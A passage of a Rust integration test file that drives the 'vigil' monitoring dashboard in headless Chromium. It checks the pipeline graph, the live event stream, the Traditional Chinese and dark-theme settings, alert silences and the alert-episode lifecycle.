//! The dashboard in headless Chromium, driven over WebDriver (Debian's `chromedriver`):
//! the overview draws the pipeline graph with live counters; the live stream shows an
//! event written to vigil while the page is open (and pauses, and filters); 繁體中文 and the
//! dark theme apply and are remembered after a reload; a silence made on an alert's page
//! holds back the next matching alert while others still go out; an alert episode is one
//! row of the alert list from firing to resolved, and its page shows its lifecycle; the
//! alert list pages to its oldest alerts and back; a Tetragon event shows its process
//! tree (parent above, process under it, pod, node, kprobe file) before its JSON in the
//! stream and on its alert's page.
//!
//! Each test saves a screenshot as `<target dir>/screenshots/<name>.png` (and
//! `<name>-failed.png` when a wait times out). The browser tests run one at a time (two
//! Chromiums on a 2-core machine only slow each other down); every wait polls the page for
//! a condition up to a deadline.
//!
//! Needs `/usr/bin/chromium` and `/usr/bin/chromedriver` (Debian's `chromium` and
//! `chromium-driver`, installed by `.ci/run`).

mod common;

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::cli::{bin, wait_for};
use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::{Value, json};

/// How long any one condition may take to hold.
const DEADLINE: Duration = Duration::from_secs(20);

const CHROMIUM: &str = "/usr/bin/chromium";
const CHROMEDRIVER: &str = "/usr/bin/chromedriver";

/// One browser at a time.
static BROWSER: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

// ---- vigil ----------------------------------------------------------------------------

struct Vigil {
    _dir: tempfile::TempDir,
    child: Child,
    base: String,
}

impl Drop for Vigil {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// stdin → `burst` (window_count, threshold 1, by `src`, high) → `sink` (YAML of the sink,
/// without its `inputs`).
fn pipeline(sink: &str) -> String {
    format!(
        "kind: pipeline\nname: p\ndescription: bursts by source\nsources:\n  in: {{type: stdin}}\nstages:\n  burst:\n    type: window_count\n    inputs: [in]\n    window: 1m\n    threshold: 1\n    group_by: [src]\n    alert: {{severity: high, title: \"burst from {{{{group.src}}}}\", mode: each_crossing}}\nsinks:\n  out:\n    inputs: [burst]\n{sink}"
    )
}

/// `vigil run` on a loopback port of its choosing, with `extra` settings lines and the
/// [`pipeline`] of `sink` (`{dir}` in it becomes the project's directory).
fn start(extra: &str, sink: &str) -> Vigil {
    start_env(extra, sink, &[])
}

/// [`start`] with environment variables.
fn start_env(extra: &str, sink: &str, env: &[(&str, &str)]) -> Vigil {
    start_pipeline(extra, &pipeline(sink), env)
}

/// `vigil run` with `extra` settings lines and the pipeline file `pipeline` (`{dir}` in it
/// becomes the project's directory).
fn start_pipeline(extra: &str, pipeline: &str, env: &[(&str, &str)]) -> Vigil {
    let dir = tempfile::tempdir().expect("temp");
    let pipes = dir.path().join("pipelines");
    std::fs::create_dir(&pipes).expect("mkdir");
    std::fs::write(
        pipes.join("settings.yaml"),
        format!(
            "kind: settings\nstate_dir: {}\nweb:\n  listen: 127.0.0.1:0\n{extra}",
            dir.path().join("state").display()
        ),
    )
    .expect("write");
    let pipeline = pipeline.replace("{dir}", &dir.path().display().to_string());
    std::fs::write(pipes.join("p.yaml"), pipeline).expect("write");
    let mut child = Command::new(bin())
        .args(["--log-format", "json", "run", "--no-watch", "--pipelines"])
        .arg(&pipes)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .envs(env.iter().copied())
        .spawn()
        .expect("vigil starts");
    let stderr = child.stderr.take().expect("stderr");
    let address: Arc<Mutex<Option<String>>> = Arc::default();
    let found = address.clone();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines() {
            let Ok(line) = line else { break };
            let Ok(v) = serde_json::from_str::<Value>(&line) else {
                continue;
            };
            if v["fields"]["message"] == "web: listening"
                && let Some(a) = v["fields"]["address"].as_str()
            {
                *found.lock().unwrap() = Some(a.to_string());
            }
        }
    });
    wait_for("the web server", DEADLINE, || {
        address.lock().unwrap().is_some()
    });
    let addr = address.lock().unwrap().clone().expect("address");
    Vigil {
        _dir: dir,
        child,
        base: format!("http://{addr}"),
    }
}

impl Vigil {
    fn send(&mut self, records: &[Value]) {
        let stdin = self.child.stdin.as_mut().expect("stdin");
        for r in records {
            writeln!(stdin, "{r}").expect("write");
        }
        stdin.flush().expect("flush");
    }

    async fn api(&self, path: &str) -> Value {
        reqwest::get(format!("{}{path}", self.base))
            .await
            .expect("request")
            .json()
            .await
            .expect("JSON")
    }
}

fn event(src: &str, sec: u32) -> Value {
    json!({"src": src, "port": 22, "timestamp": format!("2026-11-21T10:00:{sec:02}Z")})
}

// ---- the browser ------------------------------------------------------------------------

/// chromedriver in its own process group (killed with its Chromium when dropped).
struct Driver {
    child: Child,
    _profile: tempfile::TempDir,
}

impl Drop for Driver {
    fn drop(&mut self) {
        let pgid = nix::unistd::Pid::from_raw(self.child.id() as i32);
        let _ = nix::sys::signal::killpg(pgid, nix::sys::signal::Signal::SIGKILL);
        let _ = self.child.wait();
    }
}

/// A page of the dashboard open in Chromium; `name` names its screenshots.
struct Page {
    client: Client,
    name: &'static str,
    _driver: Driver,
    _turn: tokio::sync::MutexGuard<'static, ()>,
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .expect("bind")
        .local_addr()
        .expect("addr")
        .port()
}

fn screenshot_dir() -> PathBuf {
    let target = std::env::var_os("CARGO_TARGET_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("target"));
    let target = if target.is_relative() {
        Path::new(env!("CARGO_MANIFEST_DIR")).join(target)
    } else {
        target
    };
    target.join("screenshots")
}

impl Page {
    /// Starts chromedriver and a headless Chromium (fresh profile) and opens `url`.
    async fn open(name: &'static str, url: &str) -> Page {
        Page::open_sized(name, url, (1280, 960)).await
    }

    /// [`Page::open`] in a window of `size` (width, height) CSS pixels.
    async fn open_sized(name: &'static str, url: &str, size: (u32, u32)) -> Page {
        assert!(
            Path::new(CHROMIUM).exists() && Path::new(CHROMEDRIVER).exists(),
            "the browser tests need Debian's chromium and chromium-driver (.ci/run installs them)"
        );
        let turn = BROWSER.lock().await;
        let profile = tempfile::tempdir().expect("temp");
        let port = free_port();
        let child = {
            use std::os::unix::process::CommandExt;
            Command::new(CHROMEDRIVER)
                .arg(format!("--port={port}"))
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .process_group(0)
                .spawn()
                .expect("chromedriver starts")
        };
        let driver = Driver {
            child,
            _profile: profile,
        };
        let webdriver = format!("http://127.0.0.1:{port}");
        let deadline = Instant::now() + DEADLINE;
        loop {
            let ready = match reqwest::get(format!("{webdriver}/status")).await {
                Ok(r) => r
                    .json::<Value>()
                    .await
                    .is_ok_and(|v| v["value"]["ready"] == true),
                Err(_) => false,
            };
            if ready {
                break;
            }
            assert!(Instant::now() < deadline, "chromedriver did not start");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        let mut caps = serde_json::Map::new();
        caps.insert(
            "goog:chromeOptions".into(),
            json!({
                "binary": CHROMIUM,
                "args": [
                    "--headless",
                    "--no-sandbox",
                    "--disable-gpu",
                    "--disable-dev-shm-usage",
                    "--disable-quic",
                    "--no-first-run",
                    "--disable-background-networking",
                    "--disable-component-update",
                    "--disable-sync",
                    format!("--window-size={},{}", size.0, size.1),
                    format!("--user-data-dir={}", driver._profile.path().display()),
                ],
            }),
        );
        let client = ClientBuilder::rustls()
            .expect("rustls")
            .capabilities(caps)
            .connect(&webdriver)
            .await
            .expect("a Chromium session");
        client.goto(url).await.expect("the page opens");
        Page {
            client,
            name,
            _driver: driver,
            _turn: turn,
        }
    }

    /// Runs `script` (a function body; `arguments` are `args`) until it returns something
    /// other than null, false or ""; returns that. Fails (with a screenshot) after the
    /// deadline.
    async fn wait(&self, what: &str, script: &str, args: Vec<Value>) -> Value {
        self.wait_up_to(what, script, args, DEADLINE).await
    }

    /// [`Page::wait`] with a deadline of `limit`.
    async fn wait_up_to(
        &self,
        what: &str,
        script: &str,
        args: Vec<Value>,
        limit: Duration,
    ) -> Value {
        let deadline = Instant::now() + limit;
        let mut last = Value::Null;
        loop {
            match self.client.execute(script, args.clone()).await {
                Ok(Value::Null) | Ok(Value::Bool(false)) => {}
                Ok(Value::String(s)) if s.is_empty() => {}
                Ok(v) => return v,
                // The page may be between two documents (a reload).
                Err(e) => last = json!(e.to_string()),
            }
            if Instant::now() >= deadline {
                self.screenshot(&format!("{}-failed", self.name)).await;
                panic!("timed out waiting for {what} (last error: {last})");
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    /// Runs `script` once.
    async fn js(&self, script: &str, args: Vec<Value>) -> Value {
        self.client.execute(script, args).await.expect("script")
    }

    async fn click(&self, css: &str) {
        self.client
            .find(Locator::Css(css))
            .await
            .unwrap_or_else(|e| panic!("{css}: {e}"))
            .click()
            .await
            .unwrap_or_else(|e| panic!("click {css}: {e}"));
    }

    /// Switches the page to 繁體中文 and the dark theme, as a user does.
    async fn chinese_and_dark(&self) {
        self.client
            .find(Locator::Css("#lang"))
            .await
            .expect("language")
            .select_by_value("zh-TW")
            .await
            .expect("select");
        self.click("#theme-toggle").await;
    }

    async fn go(&self, hash: &str) {
        self.js(
            "location.hash = arguments[0]; return true;",
            vec![json!(hash)],
        )
        .await;
    }

    async fn screenshot(&self, name: &str) {
        let Ok(png) = self.client.screenshot().await else {
            return;
        };
        let dir = screenshot_dir();
        let _ = std::fs::create_dir_all(&dir);
        let _ = std::fs::write(dir.join(format!("{name}.png")), png);
    }

    async fn close(self) {
        self.screenshot(self.name).await;
        let _ = self.client.clone().close().await;
    }
}

// ---- the tests --------------------------------------------------------------------------

/// The overview draws one box per node (source, stage, sink from left to right, arrows
/// between them) and its counters follow the graph's within the 2-second refresh.
#[tokio::test(flavor = "multi_thread")]
async fn the_overview_draws_the_graph_with_live_counters() {
    let mut v =
        tokio::task::spawn_blocking(|| start("", "    type: file\n    path: {dir}/out.jsonl\n"))
            .await
            .expect("start");
    let page = Page::open("overview", &format!("{}/#/", v.base)).await;
    let ids = ["p.in", "p.burst", "p.out"];
    page.wait(
        "a box per node",
        "return arguments[0].every(id => document.querySelector(`svg.graph g.node[data-id=\"${id}\"] text.counters`));",
        vec![json!(ids)],
    )
    .await;
    // Laid out by depth, with an arrow along each edge.
    let xs = page
        .js(
            "return arguments[0].map(id => document.querySelector(`g.node[data-id=\"${id}\"]`).getBoundingClientRect().x);",
            vec![json!(ids)],
        )
        .await;
    let xs: Vec<f64> = serde_json::from_value(xs).expect("numbers");
    assert!(xs[0] < xs[1] && xs[1] < xs[2], "left to right: {xs:?}");
    let edges = page
        .js(
            "return [...document.querySelectorAll('svg.graph path.edge')].map(e => e.dataset.from + '>' + e.dataset.to + ':' + e.getAttribute('marker-end'));",
            vec![],
        )
        .await;
    assert_eq!(
        edges,
        json!(["p.in>p.burst:url(#arrow)", "p.burst>p.out:url(#arrow)"])
    );
    assert_eq!(
        page.js(
            "return document.querySelector('g.lane .lane-title').textContent",
            vec![]
        )
        .await,
        "p — bursts by source"
    );

    // Two events while the page is open: the counters follow.
    v.send(&[event("a", 1), event("b", 2)]);
    let deadline = Instant::now() + DEADLINE;
    loop {
        let api = v.api("/api/v1/pipelines").await;
        let nodes = api["pipelines"][0]["nodes"]
            .as_array()
            .expect("nodes")
            .clone();
        let want: Value = nodes
            .iter()
            .map(|n| {
                (
                    n["id"].as_str().unwrap_or_default().to_string(),
                    json!(format!("in {} · out {}", n["events_in"], n["events_out"])),
                )
            })
            .collect::<serde_json::Map<_, _>>()
            .into();
        let shown = page
            .js(
                "const out = {}; for (const g of document.querySelectorAll('svg.graph g.node')) out[g.dataset.id] = g.querySelector('text.counters').textContent; return out;",
                vec![],
            )
            .await;
        let done = nodes
            .iter()
            .any(|n| n["id"] == "p.out" && n["events_in"] == 2);
        if done && shown == want {
            break;
        }
        if Instant::now() >= deadline {
            page.screenshot("overview-failed").await;
            panic!("the graph shows {shown}, the API says {want}");
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // The totals follow too.
    page.wait(
        "the events-read card",
        "return document.querySelector('#stat-events_read .card-value').textContent === '2';",
        vec![],
    )
    .await;
    page.close().await;
}

/// The live stream shows an event (and the alert it caused, above it) written to vigil
/// while the page is open; paused, it counts what arrives and shows it on resume; the type
/// filter hides events.
#[tokio::test(flavor = "multi_thread")]
async fn the_live_stream_shows_events_written_while_it_is_open() {
    let mut v =
        tokio::task::spawn_blocking(|| start("", "    type: file\n    path: {dir}/out.jsonl\n"))
            .await
            .expect("start");
    let page = Page::open("stream", &format!("{}/#/stream", v.base)).await;
    page.wait(
        "the stream to connect",
        "return document.querySelector('#s-status')?.dataset.state === 'live';",
        vec![],
    )
    .await;

    v.send(&[event("probe-7f3", 1)]);
    let rows = page
        .wait(
            "the event and its alert",
            "const rows = [...document.querySelectorAll('#stream-rows tr[data-key]')]; \
             const ev = rows.findIndex(r => r.classList.contains('stream-event') && r.textContent.includes('\"src\":\"probe-7f3\"')); \
             const al = rows.findIndex(r => r.classList.contains('stream-alert') && r.textContent.includes('burst from probe-7f3')); \
             return ev >= 0 && al >= 0 ? [al, ev] : null;",
            vec![],
        )
        .await;
    assert_eq!(
        rows,
        json!([0, 1]),
        "newest first: the alert, then its event"
    );
    let source = page
        .js(
            "return document.querySelector('#stream-rows tr.stream-event td:nth-child(5)').textContent",
            vec![],
        )
        .await;
    assert_eq!(source, "p.in");

    // Paused: what arrives is counted, not shown; resumed: shown.
    page.click("#s-pause").await;
    v.send(&[event("probe-paused", 2)]);
    page.wait(
        "the pause button to count 2 new items",
        "return document.querySelector('#s-pause').textContent === 'Resume (2 new)';",
        vec![],
    )
    .await;
    assert_eq!(
        page.js(
            "return document.querySelector('#stream-rows').textContent.includes('probe-paused')",
            vec![]
        )
        .await,
        false
    );
    page.screenshot("stream-paused").await;
    page.click("#s-pause").await;
    page.wait(
        "the buffered rows",
        "return document.querySelectorAll('#stream-rows tr[data-key]').length === 4 && document.querySelector('#stream-rows tr').textContent.includes('burst from probe-paused');",
        vec![],
    )
    .await;

    // Alerts only.
    page.client
        .find(Locator::Css("#s-type"))
        .await
        .expect("type filter")
        .select_by_value("alert")
        .await
        .expect("select");
    page.wait(
        "only alerts",
        "const rows = [...document.querySelectorAll('#stream-rows tr[data-key]')]; return rows.length === 2 && rows.every(r => r.classList.contains('stream-alert'));",
        vec![],
    )
    .await;
    page.wait(
        "the filtered stream to reconnect",
        "return document.querySelector('#s-status').dataset.state === 'live';",
        vec![],
    )
    .await;
    page.close().await;
}

/// 繁體中文 and the dark theme apply at once and are still there after a reload.
#[tokio::test(flavor = "multi_thread")]
async fn chinese_and_the_dark_theme_apply_and_are_remembered() {
    let v =
        tokio::task::spawn_blocking(|| start("", "    type: file\n    path: {dir}/out.jsonl\n"))
            .await
            .expect("start");
    let page = Page::open("zh-tw-dark", &format!("{}/#/", v.base)).await;
    let nav = "return document.querySelector('nav.main-nav a[href=\"#/\"]').textContent";
    page.wait(
        "the English overview",
        "return document.querySelector('#stat-events_read .card-label')?.textContent === 'Events read';",
        vec![],
    )
    .await;
    assert_eq!(page.js(nav, vec![]).await, "Overview");
    let background = "return getComputedStyle(document.body).backgroundColor";
    let light = page.js(background, vec![]).await;
    assert_eq!(
        page.js("return document.documentElement.dataset.theme", vec![])
            .await,
        "light"
    );

    page.chinese_and_dark().await;
    let check = |theme: &'static str| {
        format!(
            "return document.documentElement.lang === 'zh-TW' \
             && document.querySelector('nav.main-nav a[href=\"#/\"]').textContent === '總覽' \
             && document.querySelector('#stat-events_read .card-label')?.textContent === '已讀取事件' \
             && document.querySelector('#theme-toggle').textContent === '深色主題' \
             && document.documentElement.dataset.theme === '{theme}' \
             && getComputedStyle(document.body).backgroundColor"
        )
    };
    let dark = page.wait("Chinese and dark", &check("dark"), vec![]).await;
    assert_ne!(dark, light, "the background changes with the theme");

    // Remembered by this browser.
    page.client.refresh().await.expect("reload");
    let again = page
        .wait("Chinese and dark after a reload", &check("dark"), vec![])
        .await;
    assert_eq!(again, dark);
    assert_eq!(
        page.js(
            "return [document.querySelector('#lang').value, document.querySelector('#theme-toggle').getAttribute('aria-pressed')]",
            vec![]
        )
        .await,
        json!(["zh-TW", "true"])
    );
    page.close().await;
    drop(v);
}

/// An alert's page shows its samples and deliveries; its Silence button makes a silence
/// for its rule and group, which holds back the next alert of that group while an alert of
/// another group still reaches the webhook.
#[tokio::test(flavor = "multi_thread")]
async fn a_silence_made_from_an_alert_holds_back_the_next_matching_alert() {
    let (hook, url) = common::cli::hook_receiver().await;
    let mut v = tokio::task::spawn_blocking(move || {
        start(
            &format!("connections:\n  webhook:\n    soc:\n      url: {url}\n"),
            "    type: webhook\n    connection: soc\n",
        )
    })
    .await
    .expect("start");
    async fn titles(hook: &wiremock::MockServer, n: usize) -> Vec<String> {
        let deadline = Instant::now() + DEADLINE;
        loop {
            let got = hook.received_requests().await.unwrap_or_default();
            if got.len() >= n {
                return got
                    .iter()
                    .map(|r| {
                        let b: Value = serde_json::from_slice(&r.body).expect("JSON");
                        b["alerts"][0]["title"]
                            .as_str()
                            .unwrap_or_default()
                            .to_string()
                    })
                    .collect();
            }
            assert!(
                Instant::now() < deadline,
                "{} webhook calls, expected {n}",
                got.len()
            );
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
    v.send(&[event("a", 1)]);
    assert_eq!(titles(&hook, 1).await, ["burst from a"]);

    let page = Page::open("silence", &format!("{}/#/alerts", v.base)).await;
    page.wait(
        "the alert in the history",
        "const a = document.querySelector('#alerts-rows tr[data-id] td.title-cell a'); return a && a.textContent === 'burst from a';",
        vec![],
    )
    .await;
    page.click("#alerts-rows tr[data-id] td.title-cell a").await;
    // The detail: the raw sample, the delivery to the hook, the silence form.
    page.wait(
        "the alert's page",
        "return document.querySelector('#silence-btn') \
         && document.querySelector('#samples pre.json')?.textContent.includes('\"src\": \"a\"') \
         && document.querySelector('#deliveries-table')?.textContent.includes('p.out');",
        vec![],
    )
    .await;
    assert_eq!(
        page.js(
            "return document.querySelector('#deliveries-table .badge').textContent",
            vec![]
        )
        .await,
        "sent"
    );
    page.screenshot("alert-detail").await;
    page.click("#silence-btn").await;
    page.wait(
        "the silence to be made",
        "return document.querySelector('#silence-created')?.dataset.silence;",
        vec![],
    )
    .await;
    page.go("#/silences").await;
    page.wait(
        "the silence listed as active",
        "return [...document.querySelectorAll('#silences-rows tr[data-state=\"active\"]')].some(r => r.textContent.includes('group_key = src=a') && r.textContent.includes('stage = burst'));",
        vec![],
    )
    .await;
    page.screenshot("silences").await;

    // A new alert about `a` is held back; one about `c` goes out.
    v.send(&[event("a", 5), event("c", 6)]);
    assert_eq!(titles(&hook, 2).await, ["burst from a", "burst from c"]);
    let deadline = Instant::now() + DEADLINE;
    loop {
        let hist = v.api("/api/v1/alerts").await;
        let alerts = hist["alerts"].as_array().cloned().unwrap_or_default();
        if alerts.len() == 3 {
            let second_a = alerts
                .iter()
                .find(|a| a["group_key"] == "src=a" && a["window"]["end"] == "2026-11-21T10:00:05Z")
                .expect("the second alert about a");
            assert_eq!(second_a["deliveries"], json!([]), "held back: {second_a}");
            break;
        }
        assert!(Instant::now() < deadline, "{hist}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // The history shows it as not sent.
    page.go("#/alerts").await;
    page.wait(
        "the held-back alert marked as not sent",
        "const rows = [...document.querySelectorAll('#alerts-rows tr[data-id]')]; \
         return rows.length === 3 && rows.some(r => r.textContent.includes('burst from a') && r.querySelector('.state-none'));",
        vec![],
    )
    .await;
    assert_eq!(hook.received_requests().await.unwrap_or_default().len(), 2);
    page.close().await;
}

/// stdin → `burst` (window_count in the default episode mode: 2-second window, threshold
/// 1, by `src`) → a webhook (`soc`) that notifies new and resolved alerts a second apart.
const EPISODES: &str = "kind: pipeline\nname: p\ndescription: bursts by source, one alert per episode\nsources:\n  in: {type: stdin}\nstages:\n  burst:\n    type: window_count\n    inputs: [in]\n    window: 2s\n    threshold: 1\n    group_by: [src]\n    alert: {severity: high, title: \"burst from {{group.src}}\", resolve_after: 1m}\nsinks:\n  out:\n    inputs: [burst]\n    type: webhook\n    connection: soc\n    group_interval: 1s\n";

/// The rows of the alert list titled `arguments[0]` (JS, for `Page::wait`).
const ROWS_TITLED: &str = "const rows = [...document.querySelectorAll('#alerts-rows tr[data-id]')].filter(r => r.querySelector('td.title-cell a')?.textContent === arguments[0]);";

/// An episode is one row of the alert list from its first crossing to its resolution: a
/// `firing` row (its update changes the same row in place), then `resolved` — muted, not
/// an alarm — with its first and last seen and its count of updates; the status filter
/// (kept in the URL) finds it among the resolved and not among the firing; its page shows
/// its lifecycle and one delivery row per notification message (its first, its
/// resolution), in English and in 繁體中文 with the dark theme.
#[tokio::test(flavor = "multi_thread")]
async fn an_episode_is_one_row_from_firing_to_resolved() {
    let (hook, url) = common::cli::hook_receiver().await;
    let mut v = tokio::task::spawn_blocking(move || {
        start_pipeline(
            // An update of an open episode is reported a second after it happens.
            &format!(
                "history_interval: 1s\nconnections:\n  webhook:\n    soc:\n      url: {url}\n"
            ),
            EPISODES,
            &[],
        )
    })
    .await
    .expect("start");
    let page = Page::open("lifecycle", &format!("{}/#/alerts", v.base)).await;
    page.wait(
        "the empty alert list",
        "return document.querySelector('#alerts-rows td.empty') && document.querySelector('#f-status');",
        vec![],
    )
    .await;

    // The first crossing: a firing row, no updates yet.
    v.send(&[event("a", 1)]);
    let id = page
        .wait(
            "a firing row for a",
            &format!(
                "{ROWS_TITLED} if (rows.length !== 1) return null; const r = rows[0]; \
                 const badge = r.querySelector('td.status-cell .badge.status'); \
                 return r.dataset.status === 'firing' && badge?.textContent === 'firing' \
                   && r.querySelector('td.updates').textContent === '—' ? r.dataset.id : null;"
            ),
            vec![json!("burst from a")],
        )
        .await;
    let id = id.as_str().expect("an id").to_string();
    let api = v.api("/api/v1/alerts").await;
    assert_eq!(api["alerts"][0]["id"], id.as_str(), "{api}");
    assert_eq!(api["alerts"][0]["episode"], true, "{api}");

    // Another event of a while it fires: the same row, updated in place.
    v.send(&[event("a", 2)]);
    page.wait(
        "the same row with one update",
        &format!(
            "{ROWS_TITLED} return rows.length === 1 && rows[0].dataset.id === arguments[1] \
             && rows[0].dataset.status === 'firing' && rows[0].querySelector('td.updates').textContent === '1';"
        ),
        vec![json!("burst from a"), json!(id)],
    )
    .await;

    // Its page while it fires: for how long, no end yet, its first message.
    page.click(&format!(
        "#alerts-rows tr[data-id=\"{id}\"] td.title-cell a"
    ))
    .await;
    let firing = page
        .wait(
            "the firing alert's page",
            "const fact = (n) => document.querySelector(`#facts [data-fact=\"${n}\"] dd`); \
             const rows = [...document.querySelectorAll('#deliveries-table tbody tr')]; \
             if (!fact('status') || rows.length !== 1 || rows[0].querySelector('.badge.state').textContent !== 'sent') return null; \
             return [fact('status').textContent, fact('duration').textContent, fact('updates').textContent, \
               !!fact('resolved-at'), rows[0].dataset.change];",
            vec![],
        )
        .await;
    assert_eq!(
        firing,
        json!(["firing", "firing for 1s", "1 update", false, "new"])
    );
    page.screenshot("alert-lifecycle-detail-firing").await;
    page.go("#/alerts").await;
    page.wait(
        "the list again",
        &format!("{ROWS_TITLED} return rows.length === 1 && rows[0].dataset.status === 'firing';"),
        vec![json!("burst from a")],
    )
    .await;

    // An event of z five minutes later moves the window past a's: a's episode resolves.
    v.send(&[json!({"src": "z", "port": 22, "timestamp": "2026-11-21T10:05:00Z"})]);
    let shown = page
        .wait(
            "the same row resolved",
            &format!(
                "{ROWS_TITLED} const z = document.querySelector('#alerts-rows tr[data-status=\"firing\"]'); \
                 if (rows.length !== 1 || rows[0].dataset.status !== 'resolved' || !z) return null; \
                 const r = rows[0]; \
                 return {{ id: r.dataset.id, \
                   rows: document.querySelectorAll(`#alerts-rows tr[data-id=\"${{r.dataset.id}}\"]`).length, \
                   badge: r.querySelector('td.status-cell .badge.status').textContent, \
                   first: r.querySelector('td.first-seen time')?.getAttribute('datetime'), \
                   last: r.querySelector('td.last-seen time')?.getAttribute('datetime'), \
                   first_text: r.querySelector('td.first-seen').textContent, \
                   updates: r.querySelector('td.updates').textContent, \
                   alarm: /sev-row-/.test(r.className), \
                   colours: [r, z].map(x => getComputedStyle(x.querySelector('.badge.status')).backgroundColor), \
                   z: z.querySelector('td.title-cell a').textContent }};"
            ),
            vec![json!("burst from a")],
        )
        .await;
    assert_eq!(shown["id"], id.as_str(), "the same alert: {shown}");
    assert_eq!(shown["rows"], 1, "{shown}");
    assert_eq!(shown["badge"], "resolved", "{shown}");
    assert_eq!(shown["first"], "2026-11-21T10:00:01.000Z", "{shown}");
    assert_eq!(shown["last"], "2026-11-21T10:00:02.000Z", "{shown}");
    assert!(
        shown["first_text"]
            .as_str()
            .is_some_and(
                |t| t.get(..19).is_some_and(|d| d.ends_with(":01")) && t[19..].starts_with(" UTC")
            ),
        "first seen in local time, with its zone: {shown}"
    );
    assert_eq!(shown["updates"], "1", "{shown}");
    assert_eq!(shown["alarm"], false, "a resolved row is no alarm: {shown}");
    assert_ne!(
        shown["colours"][0], shown["colours"][1],
        "resolved looks unlike firing: {shown}"
    );
    assert_eq!(shown["z"], "burst from z");
    // The history agrees: one row for a, resolved.
    let api = v.api("/api/v1/alerts").await;
    let mine: Vec<&Value> = api["alerts"]
        .as_array()
        .expect("alerts")
        .iter()
        .filter(|a| a["group_key"] == "src=a")
        .collect();
    assert_eq!(mine.len(), 1, "{api}");
    assert_eq!(mine[0]["status"], "resolved", "{api}");
    page.screenshot("alerts-lifecycle").await;

    // The status filter, kept in the URL: resolved shows a (and not z); firing, z only.
    let only = |status: &'static str| {
        format!(
            "const rows = [...document.querySelectorAll('#alerts-rows tr[data-id]')]; \
             return location.hash.includes('status={status}') && document.querySelector('#f-status').value === '{status}' \
               && rows.length > 0 && rows.every(r => r.dataset.status === '{status}') \
               && rows.map(r => r.dataset.id);"
        )
    };
    let p = &page;
    let select = |value: &'static str| async move {
        p.client
            .find(Locator::Css("#f-status"))
            .await
            .expect("status filter")
            .select_by_value(value)
            .await
            .expect("select");
    };
    select("resolved").await;
    let ids = page
        .wait("only resolved alerts", &only("resolved"), vec![])
        .await;
    assert_eq!(ids, json!([id]), "resolved: a only");
    select("firing").await;
    let ids = page
        .wait("only firing alerts", &only("firing"), vec![])
        .await;
    let ids: Vec<String> = serde_json::from_value(ids).expect("ids");
    assert_eq!(ids.len(), 1, "firing: z only, {ids:?}");
    assert!(!ids.contains(&id), "a is not firing: {ids:?}");
    select("").await;
    page.wait(
        "every alert again",
        "return !location.hash.includes('status=') && document.querySelectorAll('#alerts-rows tr[data-id]').length === 2;",
        vec![],
    )
    .await;

    // Its page: the lifecycle, and a delivery row per message (new, then resolved).
    page.click(&format!(
        "#alerts-rows tr[data-id=\"{id}\"] td.title-cell a"
    ))
    .await;
    let detail = "const fact = (n) => document.querySelector(`#facts [data-fact=\"${n}\"] dd`); \
         const rows = [...document.querySelectorAll('#deliveries-table tbody tr')]; \
         if (!fact('status') || rows.length !== 2 || rows.some(r => r.querySelector('.badge.state')?.textContent !== arguments[0])) return null; \
         return { heading: document.querySelector('#alert-heading .badge.status')?.textContent, \
           status: fact('status').querySelector('.badge.status')?.textContent, \
           first: fact('first-seen').querySelector('time')?.getAttribute('datetime'), \
           last: fact('last-seen').querySelector('time')?.getAttribute('datetime'), \
           duration: fact('duration').textContent, \
           resolved_at: fact('resolved-at')?.querySelector('time')?.getAttribute('datetime'), \
           updates: fact('updates').textContent, \
           labels: [...document.querySelectorAll('#facts dt')].slice(0, 4).map(d => d.textContent), \
           changes: rows.map(r => r.dataset.change + ':' + r.querySelector('td.change-cell').textContent), \
           sinks: rows.map(r => r.querySelector('td code').textContent), \
           times: rows.map(r => !!r.querySelector('td time[datetime]')) };";
    let shown = page
        .wait(
            "the alert's lifecycle and its two messages",
            detail,
            vec![json!("sent")],
        )
        .await;
    assert_eq!(
        shown,
        json!({
            "heading": "resolved",
            "status": "resolved",
            "first": "2026-11-21T10:00:01.000Z",
            "last": "2026-11-21T10:00:02.000Z",
            "duration": "lasted 1s",
            "resolved_at": "2026-11-21T10:00:04.000Z",
            "updates": "1 update",
            "labels": ["Status", "First seen", "Last seen", "Duration"],
            "changes": ["new:new", "resolved:resolved"],
            "sinks": ["p.out", "p.out"],
            "times": [true, true],
        })
    );
    // The webhook got both: the first notification of a, then its resolution (with z's).
    let bodies: Vec<Value> = hook
        .received_requests()
        .await
        .unwrap_or_default()
        .iter()
        .map(|r| serde_json::from_slice(&r.body).expect("JSON"))
        .collect();
    let of_a: Vec<String> = bodies
        .iter()
        .flat_map(|b| b["alerts"].as_array().cloned().unwrap_or_default())
        .filter(|a| a["id"] == id.as_str())
        .map(|a| format!("{}", a["change"]))
        .collect();
    assert_eq!(of_a, ["\"new\"", "\"resolved\""], "{bodies:?}");
    page.screenshot("alert-lifecycle-detail").await;

    // 繁體中文 in the dark theme.
    page.chinese_and_dark().await;
    let zh = page
        .wait(
            "the alert's page in Chinese",
            &format!(
                "return document.documentElement.dataset.theme === 'dark' && (() => {{ {detail} }})();"
            ),
            vec![json!("已送出")],
        )
        .await;
    assert_eq!(zh["status"], "已解除", "{zh}");
    assert_eq!(zh["duration"], "持續 1 秒", "{zh}");
    assert_eq!(zh["updates"], "1 次更新", "{zh}");
    assert_eq!(
        zh["labels"],
        json!(["狀態", "首次出現", "最後出現", "持續時間"]),
        "{zh}"
    );
    assert_eq!(
        zh["changes"],
        json!(["new:新告警", "resolved:已解除"]),
        "{zh}"
    );
    page.screenshot("alert-lifecycle-detail-zh-dark").await;
    page.go("#/alerts").await;
    page.wait(
        "the list in Chinese",
        &format!(
